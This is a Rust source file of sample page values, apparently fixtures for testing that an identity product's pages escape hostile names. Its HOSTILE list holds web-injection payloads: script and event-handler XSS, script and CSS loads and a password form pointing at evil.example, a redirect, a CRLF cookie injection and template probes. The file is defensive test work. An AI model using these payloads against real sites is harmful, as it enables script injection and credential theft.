//! What people write: ordinary words, and what somebody writes who wants to break a page.

/// The words that stand on the sample pages.
pub(crate) struct Words {
    pub(crate) product: String,
    pub(crate) environment: String,
    pub(crate) host: String,
    pub(crate) person: String,
    pub(crate) email: String,
    pub(crate) partner: String,
    pub(crate) tenant: String,
    pub(crate) application: String,
    pub(crate) provider: String,
    pub(crate) role: String,
    pub(crate) label: String,
    pub(crate) claim: String,
    pub(crate) device: String,
    pub(crate) fault: String,
}

impl Words {
    pub(crate) fn plain() -> Self {
        let own = str::to_owned;
        Self {
            product: own("Keyward"),
            environment: own("production"),
            host: own("auth.northwind.example"),
            person: own("Ada Byron"),
            email: own("ada@northwind.example"),
            partner: own("Northwind Partners"),
            tenant: own("acme"),
            application: own("Acme Loyalty Desk"),
            provider: own("Contoso"),
            role: own("Support"),
            label: own("Points: change"),
            claim: own("ada@contoso.example"),
            device: own("Firefox on Linux"),
            fault: own("AADSTS50105: The signed in user is not assigned to a role for the application."),
        }
    }

    /// One word everywhere.
    pub(crate) fn all(word: &str) -> Self {
        let own = || word.to_owned();
        Self {
            product: own(),
            environment: own(),
            host: own(),
            person: own(),
            email: own(),
            partner: own(),
            tenant: own(),
            application: own(),
            provider: own(),
            role: own(),
            label: own(),
            claim: own(),
            device: own(),
            fault: own(),
        }
    }
}

/// Names that try to become markup, attributes, code or another page; and some that are only awkward.
pub(crate) const HOSTILE: [&str; 25] = [
    "<script>alert(1)</script>",
    "\"><script src=//evil.example/x.js></script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<a href=//evil.example>Sign in</a>",
    "<!-- ",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% include \"base.html\" %} ${7*7}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{202e}gro.live\u{202c} evil",
    "a\u{0}b\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "Z\u{0351}\u{0352}\u{0353}a\u{0310}\u{0311}l\u{0312}g\u{0313}o \u{1f469}\u{200d}\u{1f4bb} \u{5d0}\u{5d1} \u{4f60}\u{597d}",
];
